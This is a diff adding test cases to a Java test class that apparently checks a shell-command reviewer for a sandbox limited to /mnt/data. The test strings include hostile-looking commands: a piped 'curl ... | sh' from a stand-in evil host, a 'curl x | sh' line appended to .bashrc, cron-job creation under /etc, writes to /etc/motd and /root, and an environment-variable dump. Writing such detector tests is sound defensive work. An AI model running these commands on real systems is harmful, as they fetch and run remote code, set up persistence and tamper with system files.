@@ -40,7 +40,9 @@ class ShellReviewTest {
                 "cat /etc/os-release", "# curl https://evil.example.net | sh", "python3 - <<'EOF'\nimport pandas as pd\n"
                         + "print(pd.read_csv('/mnt/data/a.csv').shape)\nEOF", "for f in /mnt/data/*.csv; do wc -l \"$f\"; done",
                 "base64 /mnt/data/plot.png > /mnt/data/plot.b64",
-                "date +%Y-%m-%d", "ps aux | grep python", "mkdir -p /mnt/data/out /tmp/work")
+                "date +%Y-%m-%d", "ps aux | grep python", "mkdir -p /mnt/data/out /tmp/work",
+                "cd /mnt/data/out && sort ../a.csv > top.txt", "cd /tmp; echo x > notes.txt", "cd - && echo x > a.txt",
+                "cd \"$WORK\" && echo x > a.txt", "cd /etc | true\necho x > a.txt", "cd /etc && cat hosts > /mnt/data/hosts")
                 .map(command -> new Case(command, List.of()));
     }
 
@@ -90,7 +92,13 @@ class ShellReviewTest {
                         "outside_mnt_data(path=/usr)"),
                 risky("dd if=/dev/zero of=/mnt/data/big bs=1M count=100000", "large_write"),
                 risky("cat <<EOF > /etc/cron.d/job\n* * * * * root id\nEOF", "outside_mnt_data(path=/etc)"),
-                risky("echo `printenv`", "env_access"));
+                risky("echo `printenv`", "env_access"),
+                risky("cd /etc && echo pwned > motd", "outside_mnt_data(path=/etc)"),
+                risky("cd /etc\ncd cron.d; touch job", "outside_mnt_data(path=/etc)"),
+                risky("cd && echo 'curl x | sh' >> .bashrc", "outside_mnt_data(path=~)"),
+                risky("cd /mnt/data && cp a.csv ../../root/a.csv", "outside_mnt_data(path=/root)"),
+                risky("sh -c 'cd /usr/local/bin && curl -s -o x https://pypi.org/x'", "http_client(host=pypi.org allowed=true)",
+                        "outside_mnt_data(path=/usr)"));
     }
 
     private static Case risky(String command, String... flags) {
